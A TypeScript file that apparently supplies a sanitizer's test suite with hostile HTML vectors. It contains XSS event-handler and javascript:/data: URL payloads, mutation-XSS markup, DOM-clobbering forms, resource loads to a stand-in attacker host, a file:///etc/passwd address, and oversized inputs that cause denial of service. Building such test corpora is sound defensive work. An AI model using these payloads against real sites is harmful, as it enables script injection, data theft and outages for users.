import type { Vector } from './vector';

const RUN = 'globalThis.__ran=1';
const FOREIGN = 'http://beacon.attack.localhost';

/** Events that elements fire by themselves, or when they are touched. */
const HANDLERS =
  'onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onpointerover oncopy onkeydown onscroll onwheel onbegin onend onloadstart onplay oncanplay onstart onpageshow onhashchange onmessage onresize onslotchange onsearch onauxclick ondrag oncontentvisibilityautostatechange'.split(
    ' ',
  );
const HANDLED: readonly ((handler: string) => string)[] = [
  (on) => `<img src=x ${on}="${RUN}">`,
  (on) => `<svg ${on}='${RUN}'><animate attributeName=x dur=1s ${on}='${RUN}'></svg>`,
  (on) => `<p tabindex=0 autofocus style="animation:a 1s" ${on}="${RUN}">A tide</p>`,
];

/** Addresses that are code, or lead to it, as browsers read them. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&#9;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `javascript&#0000058${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:${FOREIGN}/1`,
  `filesystem:${FOREIGN}/1`,
  'view-source:/x',
  'file:///etc/passwd',
  'chrome://settings',
  'about:blank#x',
  `feed:javascript:${RUN}`,
  `jar:${FOREIGN}!/x`,
  `//beacon.attack.localhost/x`,
  `\\\\beacon.attack.localhost\\x`,
];
const ADDRESSED: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">The chart</a>`,
  (to) => `<svg><a xlink:href="${to}" href="${to}"><text y=20>The chart</text></a></svg>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<img src="${to}" width=40 height=40>`,
  (to) => `<form action="${to}"><input type=submit formaction="${to}" value="Chart"></form>`,
];

/** What would ask the network for something, without any script. */
const ASKING = [
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<link rel=preload as=script href="${url}"><link rel=prefetch href="${url}"><link rel=modulepreload href="${url}">`,
  (url: string) => `<link rel=manifest href="${url}"><link rel=icon href="${url}">`,
  (url: string) => `<style>@import url(${url});p{background:url(${url})}</style>`,
  (url: string) => `<style>@font-face{font-family:t;src:url(${url})}p{font-family:t;cursor:url(${url}),auto}</style>`,
  (url: string) => `<p style="background:url(${url});list-style-image:url(${url})">A tide</p>`,
  (url: string) => `<p style="border-image:image-set('${url}' 1x) 1;mask:url(${url});filter:url(${url}#f)">A tide</p>`,
  (url: string) => `<table background="${url}"><tr background="${url}"><td background="${url}">Low</td></tr></table>`,
  (url: string) => `<video src="${url}" poster="${url}" autoplay></video>`,
  (url: string) => `<video autoplay><source src="${url}"><track default src="${url}"></video>`,
  (url: string) => `<audio src="${url}" autoplay controls></audio>`,
  (url: string) => `<object data="${url}"><param name=src value="${url}"></object>`,
  (url: string) => `<embed src="${url}" type="text/html">`,
  (url: string) => `<iframe src="${url}"></iframe><iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url: string) => `<input type=image src="${url}">`,
  (url: string) => `<svg><image href="${url}" width=9 height=9></image><use href="${url}#x"></use></svg>`,
  (url: string) => `<svg><feImage href="${url}"></feImage><script href="${url}"></script></svg>`,
  (url: string) => `<script src="${url}"></script><script type=module src="${url}"></script>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<meta http-equiv=Content-Security-Policy content="default-src *;report-uri ${url}">`,
  (url: string) => `<base href="${url}"><a href="x">Chart</a>`,
  (url: string) => `<a href="/x" ping="${url}">Chart</a>`,
  (url: string) => `<img src="/x.jpg" longdesc="${url}" lowsrc="${url}" dynsrc="${url}">`,
  (url: string) => `<body background="${url}"><frameset><frame src="${url}"></frameset>`,
  (url: string) => `<template shadowrootmode=open><img src="${url}"><style>@import '${url}'</style></template>`,
  (url: string) => `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  (url: string) => `<noscript><img src="${url}"><link rel=stylesheet href="${url}"></noscript>`,
  (url: string) => `<math><annotation-xml encoding="text/html"><img src="${url}"></annotation-xml></math>`,
];

/** Members of the DOM that a page's names would stand in for. */
const NAMES =
  'parentNode nextSibling previousSibling firstChild lastChild childNodes children parentElement nextElementSibling previousElementSibling firstElementChild lastElementChild childElementCount nodeType nodeName nodeValue textContent innerHTML outerHTML innerText tagName localName id className classList attributes getAttribute setAttribute removeAttribute hasAttribute getAttributeNames matches closest contains querySelector querySelectorAll getElementsByTagName appendChild removeChild replaceChild insertBefore append prepend remove before after replaceWith replaceChildren cloneNode ownerDocument isConnected style dataset checkVisibility getBoundingClientRect shadowRoot attachShadow dispatchEvent addEventListener normalize compareDocumentPosition __proto__ constructor toString hasOwnProperty'.split(
    ' ',
  );
/** Those that a walk around an element takes. */
const AROUND = 'parentNode parentElement childNodes children closest shadowRoot scrollTop nextSibling firstChild localName nodeType'.split(
  ' ',
);
const DOCUMENT_NAMES =
  'body head documentElement title URL baseURI contentType cookie createElement createTextNode createTreeWalker createRange importNode adoptNode querySelector querySelectorAll getElementById getElementsByTagName defaultView adoptedStyleSheets activeElement scrollingElement implementation forms images scripts currentScript readyState location'.split(
    ' ',
  );

/** Markup whose tree changes when it is written out and read again, or that parsers disagree about. */
const SHIFTING = [
  `<details open ontoggle=${RUN}><summary>Tide</summary>Low</details>`,
  `<a href="/x" ONCLICK="${RUN}">Tide</a>`,
  `<math><mtext href="javascript:${RUN}"><mi xlink:href="javascript:${RUN}">x</mi></mtext></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><a alt="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<svg><desc><style><![CDATA[</style><img src=x onerror=${RUN}>]]></style></desc></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__ran=1</script>"></iframe></foreignObject></svg>`,
  `<svg><title><p><style><g title="</style><img src=x onerror=${RUN}>"></svg>`,
  `<math><mi><style><img src="</style><img src=x onerror=${RUN}>"></mi></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><style><img title="</style><img src=x onerror=${RUN}>"></annotation-xml></math>`,
  `<table><caption><svg><desc><table><caption><style><!--</style><a title="--><img src=x onerror=${RUN}>">`,
  `<ruby><rt><svg><style></rt><img src=x onerror=${RUN}>`,
  `<div><template><p title="</template><img src=x onerror=${RUN}>"></template></div>`,
  `<option><style></option></select><img src=x onerror=${RUN}></style></option>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `<img """><script>${RUN}</script>">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<img src=x onerror=${RUN}`,
  `<a href="x"onclick=${RUN}>Chart`,
  `<p id="x" id="y" onclick=${RUN}>Tide</p>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?import namespace="t" implementation="#"?><t:x onload=${RUN}>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`,
  `<x-tide onclick=${RUN} style="position:fixed;inset:0">Tide</x-tide>`,
  `<button is="x-tide" popovertarget=x onclick=${RUN}>Tide</button><div popover id=x onbeforetoggle=${RUN}>Low</div>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>Low</button></form></dialog>`,
  `<input onfocus=${RUN} autofocus><select onfocus=${RUN} autofocus></select><textarea onfocus=${RUN} autofocus></textarea>`,
  `<marquee onstart=${RUN} onfinish=${RUN} loop=1 width=0>Tide</marquee>`,
  `<isindex action="javascript:${RUN}" type=submit value=Tide>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `<p contenteditable onbeforeinput=${RUN} oninput=${RUN}>Tide</p>`,
  `<script type="text/template"><img src=x onerror=${RUN}></script>`,
  `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=${RUN}>"}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${FOREIGN}/s"]}]}</script>`,
  `<script type=importmap>{"imports":{"x":"${FOREIGN}/m"}}</script>`,
  `<style>*{display:none!important}</style>`,
  `<style>:host,dialog{all:unset!important}</style>`,
  `<style>@layer a{html{visibility:hidden!important}}</style>`,
  `<meta http-equiv=Content-Security-Policy content="style-src 'none'; img-src 'none'">`,
  `<meta name=referrer content=unsafe-url>`,
  `<html onclick=${RUN}><body onpageshow=${RUN} onscroll=${RUN}>`,
];

/** Amounts: deep, wide, long. */
const HEAVY = [
  '<b>'.repeat(2000),
  '<div>'.repeat(3000),
  '<font><i>'.repeat(400),
  '<table><tr><td>'.repeat(400),
  '<ul><li>'.repeat(500),
  '<blockquote>'.repeat(1000),
  '<svg>'.repeat(1000),
  '<math><mrow>'.repeat(600),
  '<a href="/x">'.repeat(500),
  '<p></p>'.repeat(5000),
  '<br>'.repeat(5000),
  `<p ${Array.from({ length: 1000 }, (_, index) => `data-a${index}=x`).join(' ')}>Tide</p>`,
  `<img alt="${'a'.repeat(200_000)}" src="/x.jpg">`,
  `<p class="${'a '.repeat(20_000)}">Tide</p>`,
  `<a href="/${'a'.repeat(100_000)}">Chart</a>`,
  'a'.repeat(300_000),
  '\u202e\u2066\u2067'.repeat(500),
  `Tide${'\u0301'.repeat(2000)}`,
  '&#0;&#xD800;&#x110000;&#xFFFF;&#128;'.repeat(50),
  '&amp;'.repeat(20_000),
  '<'.repeat(10_000),
  '<!--'.repeat(5000),
  ']]>'.repeat(3000),
  `<table>${'<td colspan=9999 rowspan=9999>x'.repeat(200)}</table>`,
  `<ol start=${'9'.repeat(400)}><li value=-${'9'.repeat(400)}>Buoy</ol>`,
  `<img src="data:image/png;base64,${'A'.repeat(300_000)}">`,
];

const payloads: readonly string[] = [
  ...HANDLED.flatMap((write) => HANDLERS.map(write)),
  ...ADDRESSED.flatMap((write) => ADDRESSES.map(write)),
  ...ASKING.map((write, index) => write(`${FOREIGN}/${index}`)),
  ...NAMES.map((name) => `<form><input name=${name}><button id=${name}>Low</button></form>`),
  ...AROUND.map((name) => `<form><input type=hidden name=${name}>`), // not closed: what follows stands in it
  ...DOCUMENT_NAMES.map(
    (name) => `<form name=${name}><input></form><img name=${name} id=${name}><embed name=${name}><object id=${name}></object>`,
  ),
  ...SHIFTING,
];

const named = (name: string, list: readonly string[]): Vector[] => list.map((payload, index) => ({ id: `${name}-${index}`, payload }));

/** The project's own set of hostile markup. */
export const OWN_VECTORS: readonly Vector[] = named('own', payloads);
/** Amounts, which take seconds each. */
export const HEAVY_VECTORS: readonly Vector[] = named('heavy', HEAVY);
